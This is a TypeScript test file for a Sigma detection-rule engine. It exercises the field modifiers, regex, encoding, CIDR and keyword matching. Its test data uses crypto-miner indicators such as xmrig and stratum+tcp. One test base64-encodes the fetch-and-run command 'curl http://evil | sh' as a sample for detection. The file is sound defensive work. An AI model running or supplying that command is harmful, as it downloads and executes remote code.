import { describe, expect, it } from 'vitest';
import type { EventFields } from '../../model/event.js';
import { loadRuleText } from './loader.js';
import { CompiledRuleset } from './ruleset.js';

/** A one-rule ruleset over process_creation with the given detection body (YAML, indented 4). */
function ruleset(detection: string, logsource = 'category: process_creation'): CompiledRuleset {
  const text = `title: t\nid: 11111111-1111-4111-8111-111111111111\nlogsource:\n    product: linux\n    ${logsource}\ndetection:\n${detection}\nlevel: high\n`;
  const r = loadRuleText(text, 'test.yml');
  expect(r.failed).toEqual([]);
  expect(r.unsupported).toEqual([]);
  return new CompiledRuleset(r.rules);
}

function hits(rs: CompiledRuleset, fields: EventFields): boolean {
  return rs.match({ event: { kind: 'exec', time: 0, hostId: 'h', source: 'test', fields } }).length === 1;
}

function loadErrors(detection: string): ReturnType<typeof loadRuleText> {
  const text = `title: t\nlogsource:\n    category: process_creation\ndetection:\n${detection}\n`;
  return loadRuleText(text, 'bad.yml');
}

describe('plain values', () => {
  it('compares whole values case-insensitively', () => {
    const rs = ruleset('    sel:\n        Image: /usr/bin/XMRIG\n    condition: sel');
    expect(hits(rs, { 'process.exe': '/usr/bin/xmrig' })).toBe(true);
    expect(hits(rs, { 'process.exe': '/usr/bin/xmrig2' })).toBe(false);
    expect(hits(rs, {})).toBe(false);
  });
  it('supports * and ? wildcards and their escapes', () => {
    const rs = ruleset("    sel:\n        CommandLine: 'a*b?c'\n    condition: sel");
    expect(hits(rs, { 'process.commandLine': 'aXYZbQc' })).toBe(true);
    expect(hits(rs, { 'process.commandLine': 'abc' })).toBe(false);
    const esc = ruleset("    sel:\n        CommandLine: 'a\\*b\\?'\n    condition: sel");
    expect(hits(esc, { 'process.commandLine': 'a*b?' })).toBe(true);
    expect(hits(esc, { 'process.commandLine': 'aXbY' })).toBe(false);
    const bs = ruleset("    sel:\n        CommandLine: 'C:\\\\x\\\\*'\n    condition: sel");
    expect(hits(bs, { 'process.commandLine': 'C:\\x\\anything' })).toBe(true);
  });
  it('matches numbers against numeric and string fields', () => {
    const rs = ruleset(
      '    sel:\n        DestinationPort: 3333\n    condition: sel',
      'category: network_connection',
    );
    const ev = (port: number) => ({
      event: {
        kind: 'connection' as const,
        time: 0,
        hostId: 'h',
        source: 't',
        fields: { 'destination.port': port },
      },
    });
    expect(rs.match(ev(3333))).toHaveLength(1);
    expect(rs.match(ev(33333))).toHaveLength(0);
  });
  it('null matches a missing field, empty string only an empty value', () => {
    const rs = ruleset('    sel:\n        CurrentDirectory: null\n    condition: sel');
    expect(hits(rs, {})).toBe(true);
    expect(hits(rs, { 'process.cwd': '/' })).toBe(false);
    const empty = ruleset("    sel:\n        CurrentDirectory: ''\n    condition: sel");
    expect(hits(empty, { 'process.cwd': '' })).toBe(true);
    expect(hits(empty, {})).toBe(false);
  });
  it('lists are OR, maps are AND, lists of maps are OR', () => {
    const rs = ruleset(
      '    sel:\n        - Image: /a\n          User: root\n        - Image: /b\n    condition: sel',
    );
    expect(hits(rs, { 'process.exe': '/a', 'process.user': 'root' })).toBe(true);
    expect(hits(rs, { 'process.exe': '/a', 'process.user': 'bob' })).toBe(false);
    expect(hits(rs, { 'process.exe': '/b' })).toBe(true);
  });
  it('matches any element of a list-valued field', () => {
    const rs = ruleset(
      "    sel:\n        QueryResults: '10.0.0.*'\n    condition: sel",
      'category: dns_query',
    );
    const ev = {
      kind: 'dns' as const,
      time: 0,
      hostId: 'h',
      source: 't',
      fields: { 'dns.answers': ['1.1.1.1', '10.0.0.7'] },
    };
    expect(rs.match({ event: ev })).toHaveLength(1);
  });
});

describe('string modifiers', () => {
  it('contains, startswith, endswith', () => {
    const c = ruleset("    sel:\n        CommandLine|contains: 'stratum+tcp'\n    condition: sel");
    expect(hits(c, { 'process.commandLine': 'x -o STRATUM+TCP://pool:3333' })).toBe(true);
    expect(hits(c, { 'process.commandLine': 'stratum tcp' })).toBe(false);
    const s = ruleset("    sel:\n        Image|startswith: '/tmp/'\n    condition: sel");
    expect(hits(s, { 'process.exe': '/tmp/x' })).toBe(true);
    expect(hits(s, { 'process.exe': '/var/tmp/x' })).toBe(false);
    const e = ruleset("    sel:\n        Image|endswith: '/xmrig'\n    condition: sel");
    expect(hits(e, { 'process.exe': '/opt/XMRig' })).toBe(true);
    expect(hits(e, { 'process.exe': '/opt/xmrig.sh' })).toBe(false);
  });
  it('all makes a value list AND', () => {
    const rs = ruleset(
      "    sel:\n        CommandLine|contains|all:\n            - '-o '\n            - '-u '\n    condition: sel",
    );
    expect(hits(rs, { 'process.commandLine': 'm -o p -u w' })).toBe(true);
    expect(hits(rs, { 'process.commandLine': 'm -o p' })).toBe(false);
  });
  it('cased compares case-sensitively', () => {
    const rs = ruleset("    sel:\n        CommandLine|cased|contains: 'XMR'\n    condition: sel");
    expect(hits(rs, { 'process.commandLine': 'run XMR' })).toBe(true);
    expect(hits(rs, { 'process.commandLine': 'run xmr' })).toBe(false);
  });
  it('neq negates each value', () => {
    const rs = ruleset('    sel:\n        User|neq: root\n    condition: sel');
    expect(hits(rs, { 'process.user': 'bob' })).toBe(true);
    expect(hits(rs, { 'process.user': 'ROOT' })).toBe(false);
  });
  it('exists tests presence, not value', () => {
    const yes = ruleset('    sel:\n        CurrentDirectory|exists: true\n    condition: sel');
    expect(hits(yes, { 'process.cwd': '' })).toBe(true);
    expect(hits(yes, {})).toBe(false);
    const no = ruleset('    sel:\n        CurrentDirectory|exists: false\n    condition: sel');
    expect(hits(no, {})).toBe(true);
  });
  it('re with i, m and s, unanchored', () => {
    const rs = ruleset("    sel:\n        CommandLine|re: 'xm[r]ig\\s+-o'\n    condition: sel");
    expect(hits(rs, { 'process.commandLine': './xmrig  -o pool' })).toBe(true);
    expect(hits(rs, { 'process.commandLine': './XMRIG -o pool' })).toBe(false);
    const i = ruleset("    sel:\n        CommandLine|re|i: '^xmrig'\n    condition: sel");
    expect(hits(i, { 'process.commandLine': 'XMRIG' })).toBe(true);
    const m = ruleset("    sel:\n        CommandLine|re|m: '^second$'\n    condition: sel");
    expect(hits(m, { 'process.commandLine': 'first\nsecond\nthird' })).toBe(true);
    const noM = ruleset("    sel:\n        CommandLine|re: '^second$'\n    condition: sel");
    expect(hits(noM, { 'process.commandLine': 'first\nsecond\nthird' })).toBe(false);
    const s = ruleset("    sel:\n        CommandLine|re|s: 'a.b'\n    condition: sel");
    expect(hits(s, { 'process.commandLine': 'a\nb' })).toBe(true);
    const noS = ruleset("    sel:\n        CommandLine|re: 'a.b'\n    condition: sel");
    expect(hits(noS, { 'process.commandLine': 'a\nb' })).toBe(false);
  });
  it('base64 and base64offset find encoded text', () => {
    const plain = Buffer.from('curl http://evil | sh').toString('base64');
    const b = ruleset("    sel:\n        CommandLine|base64: 'curl http://evil | sh'\n    condition: sel");
    expect(hits(b, { 'process.commandLine': plain })).toBe(true);
    const off = ruleset("    sel:\n        CommandLine|base64offset|contains: 'xmrig'\n    condition: sel");
    for (const prefix of ['', 'a', 'ab', 'abc'])
      expect(
        hits(off, {
          'process.commandLine': `echo ${Buffer.from(`${prefix}xmrig --donate`).toString('base64')}`,
        }),
      ).toBe(true);
    expect(hits(off, { 'process.commandLine': Buffer.from('nothing here').toString('base64') })).toBe(false);
  });
  it('utf16le, utf16be, wide and utf16 encode before base64', () => {
    const enc = (s: string, e: BufferEncoding, swap = false, bom = '') => {
      const b = Buffer.from(s, e);
      if (swap) b.swap16();
      return Buffer.concat([Buffer.from(bom, 'latin1'), b]).toString('base64');
    };
    const le = ruleset("    sel:\n        CommandLine|utf16le|base64: 'cmd'\n    condition: sel");
    expect(hits(le, { 'process.commandLine': enc('cmd', 'utf16le') })).toBe(true);
    const wide = ruleset("    sel:\n        CommandLine|wide|base64: 'cmd'\n    condition: sel");
    expect(hits(wide, { 'process.commandLine': enc('cmd', 'utf16le') })).toBe(true);
    const be = ruleset("    sel:\n        CommandLine|utf16be|base64: 'cmd'\n    condition: sel");
    expect(hits(be, { 'process.commandLine': enc('cmd', 'utf16le', true) })).toBe(true);
    const bom = ruleset("    sel:\n        CommandLine|utf16|base64: 'cmd'\n    condition: sel");
    expect(hits(bom, { 'process.commandLine': enc('cmd', 'utf16le', false, '\xff\xfe') })).toBe(true);
  });
  it('windash accepts every dash spelling of a flag', () => {
    const rs = ruleset("    sel:\n        CommandLine|windash|contains: ' -enc '\n    condition: sel");
    for (const d of ['-', '/', '\u2013', '\u2014', '\u2015'])
      expect(hits(rs, { 'process.commandLine': `x ${d}enc y` })).toBe(true);
    expect(hits(rs, { 'process.commandLine': 'x +enc y' })).toBe(false);
  });
});

describe('typed modifiers', () => {
  const net = (fields: EventFields) => ({
    event: { kind: 'connection' as const, time: 0, hostId: 'h', source: 't', fields },
  });
  it('cidr for IPv4 and IPv6', () => {
    const rs = ruleset(
      "    sel:\n        DestinationIp|cidr:\n            - '10.0.0.0/8'\n            - 'fd00::/8'\n    condition: sel",
      'category: network_connection',
    );
    expect(rs.match(net({ 'destination.ip': '10.2.3.4' }))).toHaveLength(1);
    expect(rs.match(net({ 'destination.ip': '11.2.3.4' }))).toHaveLength(0);
    expect(rs.match(net({ 'destination.ip': 'fd12::1' }))).toHaveLength(1);
    expect(rs.match(net({ 'destination.ip': '::ffff:10.1.1.1' }))).toHaveLength(1);
    expect(rs.match(net({ 'destination.ip': 'not-an-ip' }))).toHaveLength(0);
  });
  it('lt, lte, gt, gte compare numbers', () => {
    const mk = (op: string) =>
      ruleset(
        `    sel:\n        DestinationPort|${op}: 1024\n    condition: sel`,
        'category: network_connection',
      );
    const port = (rs: CompiledRuleset, p: number) => rs.match(net({ 'destination.port': p })).length === 1;
    expect([port(mk('lt'), 1023), port(mk('lt'), 1024)]).toEqual([true, false]);
    expect([port(mk('lte'), 1024), port(mk('lte'), 1025)]).toEqual([true, false]);
    expect([port(mk('gt'), 1025), port(mk('gt'), 1024)]).toEqual([true, false]);
    expect([port(mk('gte'), 1024), port(mk('gte'), 1023)]).toEqual([true, false]);
  });
  it('fieldref compares two fields of the event', () => {
    const rs = ruleset('    sel:\n        Image|fieldref: ParentImage\n    condition: sel');
    expect(hits(rs, { 'process.exe': '/bin/sh', 'parent.exe': '/BIN/SH' })).toBe(true);
    expect(hits(rs, { 'process.exe': '/bin/sh', 'parent.exe': '/bin/bash' })).toBe(false);
    const neq = ruleset('    sel:\n        Image|fieldref|neq: ParentImage\n    condition: sel');
    expect(hits(neq, { 'process.exe': '/bin/sh', 'parent.exe': '/bin/bash' })).toBe(true);
  });
});

describe('keywords', () => {
  it('search every field, OR by default and AND with |all', () => {
    const rs = ruleset("    kw:\n        - 'stratum+tcp'\n        - 'donate-level'\n    condition: kw");
    expect(hits(rs, { 'process.commandLine': 'xmrig --donate-level 1' })).toBe(true);
    expect(hits(rs, { 'process.exe': '/tmp/STRATUM+TCP' })).toBe(true);
    expect(hits(rs, { 'process.exe': '/bin/ls' })).toBe(false);
    const all = ruleset(
      "    kw:\n        '|all':\n            - 'truncate'\n            - '-s'\n    condition: kw",
    );
    expect(hits(all, { 'process.commandLine': 'truncate -s 10M f' })).toBe(true);
    expect(hits(all, { 'process.commandLine': 'truncate f' })).toBe(false);
  });
});

describe('modifier errors', () => {
  it('an unknown modifier fails with its line', () => {
    const r = loadErrors('    sel:\n        Image|bogus: x\n    condition: sel');
    expect(r.failed).toEqual([
      {
        file: 'bad.yml',
        line: 6,
        code: 'MW_SIGMA_MODIFIER',
        message: expect.stringContaining("unknown modifier 'bogus'"),
      },
    ]);
  });
  it('a placeholder nobody gave values for is reported as an unsupported feature', () => {
    // (time modifiers are evaluated: src/detect/sigma/match/time-part.test.ts)
    const e = loadErrors('    sel:\n        Image|expand: "%Servers%"\n    condition: sel');
    expect(e.unsupported).toEqual([{ file: 'bad.yml', feature: expect.stringContaining('%Servers%') }]);
  });
  it('bad combinations and values fail', () => {
    expect(
      loadErrors('    sel:\n        Image|contains|startswith: x\n    condition: sel').failed[0]?.code,
    ).toBe('MW_SIGMA_MODIFIER');
    expect(loadErrors('    sel:\n        Image|i: x\n    condition: sel').failed[0]?.code).toBe(
      'MW_SIGMA_MODIFIER',
    );
    expect(loadErrors('    sel:\n        Image|cidr: 10.0.0.0/40\n    condition: sel').failed[0]?.code).toBe(
      'MW_SIGMA_MODIFIER',
    );
    expect(loadErrors('    sel:\n        Image|gt: abc\n    condition: sel').failed[0]?.code).toBe(
      'MW_SIGMA_MODIFIER',
    );
    expect(loadErrors('    sel:\n        Image|exists: maybe\n    condition: sel').failed[0]?.code).toBe(
      'MW_SIGMA_MODIFIER',
    );
  });
  it('an unknown field is an unsupported feature naming the field', () => {
    const r = loadErrors('    sel:\n        NoSuchField: x\n    condition: sel');
    expect(r.unsupported[0]?.feature).toContain("field 'NoSuchField'");
  });
});
